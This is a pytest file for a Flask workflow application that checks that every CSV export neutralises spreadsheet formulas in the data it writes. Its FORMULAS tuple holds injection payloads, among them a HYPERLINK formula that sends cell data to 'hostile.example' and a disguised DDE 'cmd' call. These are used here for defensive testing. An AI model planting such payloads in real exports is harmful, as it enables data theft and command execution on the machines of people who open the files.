"""Every list as a file, with a formula in every field that is kept: a spreadsheet reads texts alone.

What begins a formula is hunted in test_formulas.py, on the one function that writes these files.
"""

import csv
import io

import pytest
from flask import Flask

from tests.databases import RolledBack
from tests.factories import World
from tests.faults.hostile import plant
from tests.faults.reaching import Reaching
from tests.faults.test_formulas import run_by_a_spreadsheet
from tests.settable_clock import MORNING, SettableClock
from tests.stages import Stage
from tests.web.conftest import Visit, app, app_settings, visit, world
from workflow.domain.terms import Role
from workflow.papers import csv_rows

__all__ = ["app", "app_settings", "visit", "world"]

pytestmark = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
FORMULAS = (
    '=HYPERLINK("https://hostile.example?"&A1;"Report")',
    "\u200b\u00a0+cmd|' /C calc'!A0",
    '\t-2+3,"\r\n=1',
    "@SUM(1,2)\n=3",
    "\uff1dIMPORTXML(1)",
)
READERS = {
    "MY contact_point": Role.CONTACT_POINT,
    "lead_shepherd": Role.LEAD_SHEPHERD,
    "secretariat": Role.SECRETARIAT,
    "programme": Role.PROGRAMME,
}


@pytest.fixture
def reaching(
    app: Flask, database: RolledBack, visit: Visit, world: World, outspoken: Stage, clock: SettableClock
) -> Reaching:
    """Give people of every kind, signed in before the round in which each State has spoken."""
    clock.now = MORNING
    assert outspoken.circulation is not None
    reaching = Reaching(app, database, visit, world, outspoken.circulation)
    for name in READERS:
        reaching.client(name)
    return reaching


def run(reaching: Reaching) -> tuple[list[str], set[str]]:
    """Return the cells of all lists that a spreadsheet would run, and the lists that show such a text."""
    found, shown = [], set()
    for name, role in READERS.items():
        for rule in reaching.open_to(role, "GET"):
            if not rule.rule.endswith(".csv"):
                continue
            answer = reaching.client(name).get(reaching.address(rule.endpoint, reaching.things("MY")))
            if answer.status_code != 200:
                assert answer.status_code in (404, 409), (rule.rule, answer.status_code)
                continue
            assert answer.mimetype == "text/csv"
            for row in csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")):
                shown |= {rule.endpoint for cell in row if cell.startswith("'")}
                found += [f"{rule.endpoint}: {cell}" for cell in row if run_by_a_spreadsheet(cell)]
    return found, shown


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_no_list_holds_a_formula(reaching: Reaching, database: RolledBack, formula: str) -> None:
    with database.writing() as session:
        plant(session, formula)
    found, shown = run(reaching)
    assert found == []
    assert len(shown) >= 8


def test_list_that_is_written_raw_is_found(
    reaching: Reaching, database: RolledBack, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_rows, "_safe", str)
    with database.writing() as session:
        plant(session, FORMULAS[0])
    assert len({one.partition(":")[0] for one in run(reaching)[0]}) >= 8
